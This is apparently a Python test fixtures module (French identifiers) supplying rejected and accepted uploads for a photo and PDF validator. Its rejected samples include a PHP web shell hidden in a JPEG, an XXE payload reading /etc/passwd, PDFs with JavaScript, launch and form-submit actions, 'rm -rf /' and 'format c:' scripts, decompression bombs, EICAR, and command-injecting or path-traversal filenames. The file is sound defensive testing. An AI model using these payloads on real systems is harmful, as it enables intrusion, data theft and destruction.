"""Files that must not be kept, names that deceive, and the photos and PDFs of ordinary people. All made on the spot."""

from __future__ import annotations

import gzip
import io
import tarfile
import zipfile
import zlib

import pikepdf
from PIL import Image

from tests.fabriques_fichiers import capture, grande_image, heic, pdf, photo

# In two parts, so that no antivirus takes the tests away.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
TYPE, FORMAT, ABIME, GRANDE = "n’est pas accepté", "format d’image", "abîmé", "trop grande"
ACTIF, JOINT, DOUBLE, WORD = "actif", "autre fichier", "caché", "en PDF"


def action(**valeurs):
    return pikepdf.Dictionary(**valeurs)


def script():
    return action(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def avec_script_au_debut(document):
    document.Root.OpenAction = script()


def avec_lancement_dans_un_lien(document, page):
    lien = action(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9],
                  A=action(S=pikepdf.Name.Launch, F="calc.exe"))  # fmt: skip
    page.Annots = pikepdf.Array([lien])


def avec_fichier_joint(document):
    document.attachments["notes.txt"] = b"bonjour"


def avec_script_nomme(document):
    document.Root.Names = action(JavaScript=action(Names=["a", script()]))


def avec_action_de_page(document, page):
    page.AA = action(O=action(S=pikepdf.Name.GoTo))


def avec_formulaire_xfa(document):
    document.Root.AcroForm = action(XFA="<x/>", Fields=[])


def avec_video(document, page):
    page.Annots = pikepdf.Array([action(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])])


def avec_ouverture_enchainee(document):
    document.Root.OpenAction = action(S=pikepdf.Name.GoTo, D="debut", Next=script())


def verrouille(mot_de_passe: str) -> dict:
    return {"encryption": pikepdf.Encryption(owner="proprietaire", user=mot_de_passe)}


def avec_annotation(**valeurs):
    def page(_document, page):
        page.Annots = pikepdf.Array([action(Type=pikepdf.Name.Annot, Rect=[0, 0, 9, 9], **valeurs)])

    return page


def qui_fait(nom: str, **valeurs):
    """A link that does it when it is touched."""
    return avec_annotation(Subtype=pikepdf.Name.Link, A=action(S=pikepdf.Name("/" + nom), **valeurs))


def qui_envoie_en_fermant(document):
    document.Root.AA = action(WC=action(S=pikepdf.Name.SubmitForm, F="https://piege.example"))


def avec_porte_documents(document):
    document.attachments["virus.exe"] = b"MZ"
    document.Root.Collection = action(View=pikepdf.Name.D)


def avec_eicar_joint(document):
    document.attachments["facture.com"] = EICAR


def avec_fichier_associe(document):
    flux = pikepdf.Stream(document, b"bonjour")
    document.Root.AF = pikepdf.Array([action(Type=pikepdf.Name.Filespec, F="a.txt", EF=action(F=flux))])


def avec_flux_demesure(document):
    compresseur = zlib.compressobj(9)
    octets = b"".join(compresseur.compress(bytes(1 << 20)) for _ in range(320)) + compresseur.flush()
    flux = pikepdf.Stream(document, b"")
    flux.write(octets, filter=pikepdf.Name.FlateDecode)
    document.pages[0].obj.Contents = document.make_indirect(flux)


def avec_flux_dans_un_flux(document):
    flux = pikepdf.Stream(document, b"")
    double = zlib.compress(zlib.compress(b"q Q"))
    flux.write(double, filter=pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode]))
    document.pages[0].obj.Contents = document.make_indirect(flux)


def avec_image_immense(document):
    image = pikepdf.Stream(document, b"\0")
    image.stream_dict = action(Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=90_000, Height=90_000,
                               ColorSpace=pikepdf.Name.DeviceGray, BitsPerComponent=8)  # fmt: skip
    document.pages[0].obj.Resources = action(XObject=action(Im0=document.make_indirect(image)))


# Kept as it is by what writes the PDF.
INTACT = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}


def archive(nom: str = "a.txt", octets: bytes = b"bonjour") -> bytes:
    sortie = io.BytesIO()
    with zipfile.ZipFile(sortie, "w") as zip_:
        zip_.writestr(nom, octets)
    return sortie.getvalue()


def paquet() -> bytes:
    sortie = io.BytesIO()
    with tarfile.open(fileobj=sortie, mode="w") as tar:
        tar.addfile(tarfile.TarInfo("a.txt"))
    return sortie.getvalue()


def png_qui_gonfle() -> bytes:
    """A text of 200 MB, compressed, inside a small picture."""

    def morceau(genre: bytes, donnees: bytes) -> bytes:
        return len(donnees).to_bytes(4, "big") + genre + donnees + zlib.crc32(genre + donnees).to_bytes(4, "big")

    compresseur = zlib.compressobj(9)
    texte = b"".join(compresseur.compress(bytes(1 << 20)) for _ in range(200)) + compresseur.flush()
    image = capture("RGB")
    return image[:33] + morceau(b"zTXt", b"Comment\0\0" + texte) + image[33:]


def jpeg_immense() -> bytes:
    """A photo that says that it is 65,000 pixels wide and high."""
    octets = bytearray(photo())
    place = octets.index(b"\xff\xc0") + 5
    octets[place : place + 4] = (65_000).to_bytes(2, "big") * 2
    return bytes(octets)


def png_faux() -> bytes:
    """One byte of its pixels was changed."""
    octets = bytearray(capture("RGB"))
    octets[octets.index(b"IDAT") + 6] ^= 0xFF
    return bytes(octets)


MAUVAIS = {
    "rien": (b"", "vide"),
    "du texte": (b"bonjour", "n’est pas accepté"),
    "une page web": (b"<html><script>alert(1)</script></html>", "n’est pas accepté"),
    "un dessin SVG": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "n’est pas accepté"),
    "un programme": (b"MZ\x90\0" + b"\0" * 500, "n’est pas accepté"),
    "une photo HEIC vide": (heic(), r"abîmé|HEIC"),
    "un GIF": (b"GIF89a" + b"\0" * 50, "format d’image"),
    "un document Word": (b"PK\x03\x04" + b"\0" * 50, "en PDF"),
    "un vieux document Word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 50, "en PDF"),
    "une photo coupée": (photo(600, 400)[:900], "abîmé"),
    "un début de photo": (b"\xff\xd8\xff\xe0", "abîmé"),
    "un PNG sans image": (b"\x89PNG\r\n\x1a\n" + b"\0" * 80, "abîmé"),
    "41 mégapixels": (grande_image(41_000, 1000), "trop grande"),
    "une bombe": (grande_image(60_000, 60_000), "trop grande"),
    "un PNG qui ment sur sa taille": (grande_image(3000, 3000), "abîmé"),
    "un PDF vide": (b"%PDF-1.7\n", "abîmé"),
    "un PDF coupé": (pdf()[:300], "abîmé"),
    "un PDF sans page": (pdf(0), "aucune page"),
    "un PDF à mot de passe": (pdf(**verrouille("secret")), "mot de passe"),
    "un script à l’ouverture": (pdf(racine=avec_script_au_debut), "actif"),
    "un script nommé": (pdf(racine=avec_script_nomme), "actif"),
    "un script enchaîné": (pdf(racine=avec_ouverture_enchainee), "actif"),
    "un script dans des objets compressés": (
        pdf(racine=avec_script_au_debut, object_stream_mode=pikepdf.ObjectStreamMode.generate), "actif",
    ),
    "un programme à lancer": (pdf(page=avec_lancement_dans_un_lien), "actif"),
    "une action de page": (pdf(page=avec_action_de_page), "actif"),
    "un formulaire XFA": (pdf(racine=avec_formulaire_xfa), "actif"),
    "une vidéo": (pdf(page=avec_video), "actif"),
    "un fichier joint": (pdf(racine=avec_fichier_joint), "autre fichier"),
    "du texte avant le PDF": (b"<script>\n" + pdf(), "n’est pas accepté"),
    "une photo et une page web": (photo() + b"<script>alert(1)</script>", DOUBLE),
    "une photo et une archive": (photo() + archive(), DOUBLE),
    "une photo et un PDF": (photo() + pdf(), DOUBLE),
    "une photo qui est un programme PHP": (photo()[:20] + b"<?php system($_GET[0]); ?>" + photo()[20:], DOUBLE),
    "une photo et un dessin actif": (photo() + b"<svg onload=alert(1)>", DOUBLE),
    "une capture et une archive": (capture() + archive(), DOUBLE),
    "une capture et du HTML": (capture() + b"<HTML><body>", DOUBLE),
    "une capture et une archive Java": (capture() + archive("META-INF/MANIFEST.MF"), DOUBLE),
    "un PDF et une archive": (pdf() + archive(), DOUBLE),
    "un PDF et une page web": (pdf() + b"<html><script src=//piege.example></script>", DOUBLE),
    "un PDF et un autre PDF collé": (pdf() + b"\n" + pdf()[:-7] + b"<script>", r"abîmé|caché"),
    "un programme et un PDF": (b"MZ\x90\0" + pdf(), TYPE),
    "un octet avant le PDF": (b"\n" + pdf(), TYPE),
    "un GIF qui est un script": (b"GIF89a/*" + b"\0" * 9 + b"*/=1;alert(1)", FORMAT),
    "un BMP": (b"BM" + b"\0" * 60, FORMAT),
    "un TIFF": (b"II*\x00" + b"\0" * 60, FORMAT),
    "un TIFF de Mac": (b"MM\x00*" + b"\0" * 60, FORMAT),
    "un WebP": (b"RIFF\x24\0\0\0WEBPVP8 " + b"\0" * 40, TYPE),
    "un AVIF": (b"\0\0\0\x18ftypavif" + b"\0" * 40, TYPE),
    "un film": (b"\0\0\0\x18ftypmp42" + b"\0" * 40, TYPE),
    "un JPEG 2000": (b"\0\0\0\x0cjP  \r\n\x87\n" + b"\0" * 40, TYPE),
    "une icône": (b"\0\0\x01\0\x01\0" + b"\0" * 40, TYPE),
    "du PostScript": (b"%!PS-Adobe-3.0\n(bonjour) show", TYPE),
    "un programme Linux": (b"\x7fELF" + b"\0" * 60, TYPE),
    "un script de commandes": (b"#!/bin/sh\nrm -rf /\n", TYPE),
    "un script Windows": (b"@echo off\r\nformat c:\r\n", TYPE),
    "un raccourci Windows": (b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, TYPE),
    "un document XML": (b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', TYPE),
    "une archive ZIP": (archive(), WORD),
    "un classeur à macros": (archive("xl/vbaProject.bin"), WORD),
    "une archive RAR": (b"Rar!\x1a\x07\x00" + b"\0" * 40, TYPE),
    "une archive 7z": (b"7z\xbc\xaf\x27\x1c" + b"\0" * 40, TYPE),
    "un dessin SVG compressé": (gzip.compress(b"<svg/>"), TYPE),
    "un paquet TAR": (paquet(), TYPE),
    "un document RTF": (b"{\\rtf1 bonjour}", WORD),
    "un courriel": (b"From: a@b.example\r\nSubject: x\r\n\r\nbonjour", TYPE),
    "EICAR": (EICAR, TYPE),
    "EICAR dans une archive": (archive("eicar.com", EICAR), WORD),
    "EICAR joint à un PDF": (pdf(racine=avec_eicar_joint), JOINT),
    "du texte en UTF-16": ("bonjour".encode("utf-16"), TYPE),
    "des zéros": (bytes(10_000), TYPE),
    "une photo immense": (jpeg_immense(), r"trop grande|abîmé"),
    "un PNG qui gonfle": (png_qui_gonfle, ABIME),
    "un PNG altéré": (png_faux(), ABIME),
    "un PNG sans fin": (capture("RGB", (300, 300))[:90], ABIME),
    "un PDF qui gonfle": (lambda: pdf(racine=avec_flux_demesure, **INTACT), "trop grandes"),
    "un PDF doublement compressé": (pdf(racine=avec_flux_dans_un_flux, **INTACT), "trop grandes"),
    "un PDF à l’image immense": (pdf(racine=avec_image_immense), "trop grandes"),
    "un PDF de bruit": (b"%PDF-1.4\n" + bytes(range(256)) * 40 + b"\n%%EOF", ABIME),
    "un lien vers un autre PDF": (pdf(page=qui_fait("GoToR", F="autre.pdf")), ACTIF),
    "un lien vers un PDF joint": (pdf(page=qui_fait("GoToE")), ACTIF),
    "un envoi de formulaire": (pdf(page=qui_fait("SubmitForm", F="https://piege.example")), ACTIF),
    "un import de données": (pdf(page=qui_fait("ImportData", F="a.fdf")), ACTIF),
    "un son": (pdf(page=avec_annotation(Subtype=pikepdf.Name.Sound)), ACTIF),
    "un film dans un PDF": (pdf(page=avec_annotation(Subtype=pikepdf.Name.Movie)), ACTIF),
    "un lecteur de film": (pdf(page=qui_fait("Rendition")), ACTIF),
    "un objet en relief": (pdf(page=avec_annotation(Subtype=pikepdf.Name("/3D"))), ACTIF),
    "un script au survol": (
        pdf(page=avec_annotation(Subtype=pikepdf.Name.Link, AA=action(E=action(S=pikepdf.Name.JavaScript, JS="x")))),
        ACTIF,
    ),
    "un envoi à la fermeture": (pdf(racine=qui_envoie_en_fermant), ACTIF),
    "une pièce épinglée": (pdf(page=avec_annotation(Subtype=pikepdf.Name.FileAttachment)), JOINT),
    "un porte-documents": (pdf(racine=avec_porte_documents), JOINT),
    "un fichier associé": (pdf(racine=avec_fichier_associe), JOINT),
}  # fmt: skip

MAUVAIS_NOMS = (
    "../../../etc/passwd", "..\\..\\windows\\system32\\a.exe", "/etc/shadow", "C:\\a.pdf", "a.pdf.exe", "a.php.pdf",
    "acte\u202efdp.exe", "a\0.pdf.exe", "a\r\nSet-Cookie: x=1.pdf", '"><script>alert(1)</script>.pdf', "$(reboot).pdf",
    "`reboot`.pdf", "; rm -rf ~.pdf", "%2e%2e%2fetc.pdf", "a" * 5000, "é" * 300 + ".pdf", ".htaccess", "-rf.pdf", "",
    "   ", "CON", "a|b.pdf", "~/.ssh/id", "\u2066a\u2069.pdf",
)  # fmt: skip


def enregistrer(image: Image.Image, format_image: str, **options) -> bytes:
    sortie = io.BytesIO()
    image.save(sortie, format_image, **options)
    return sortie.getvalue()


def bruit(largeur: int, hauteur: int, mode: str = "RGB") -> Image.Image:
    """Something that compresses as a photo does."""
    return Image.effect_noise((largeur, hauteur), 40).convert(mode)


def numerise(pages: int) -> bytes:
    """What an application that scans makes of photos."""
    premiere, *autres = [bruit(620, 877) for _ in range(pages)]
    return enregistrer(premiere, "PDF", save_all=True, append_images=autres)


BONS = {
    **{f"orientation {n}": (lambda n=n: photo(600, 400, orientation=n)) for n in range(1, 9)},
    "douze mégapixels": lambda: enregistrer(bruit(4000, 3000), "JPEG", quality=75),
    "progressive": lambda: photo(1600, 1200, progressive=True),
    "pour l’imprimerie": lambda: enregistrer(bruit(600, 400, "CMYK"), "JPEG"),
    "noir et blanc": lambda: enregistrer(bruit(600, 400, "L"), "JPEG"),
    "à deux vues": lambda: enregistrer(bruit(300, 200), "MPO", save_all=True, append_images=[bruit(300, 200)]),
    "avec un film derrière": lambda: photo(600, 400) + b"\0\0\0\x18ftypmp42" + bytes(5000),
    "capture d’écran": lambda: capture("RGBA", (1170, 2532)),
    "capture en couleurs comptées": lambda: capture("P", (300, 200)),
    "un document numérisé": lambda: numerise(3),
    "un document aux objets compressés": lambda: pdf(2, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "un document linéarisé": lambda: pdf(2, linearize=True),
}
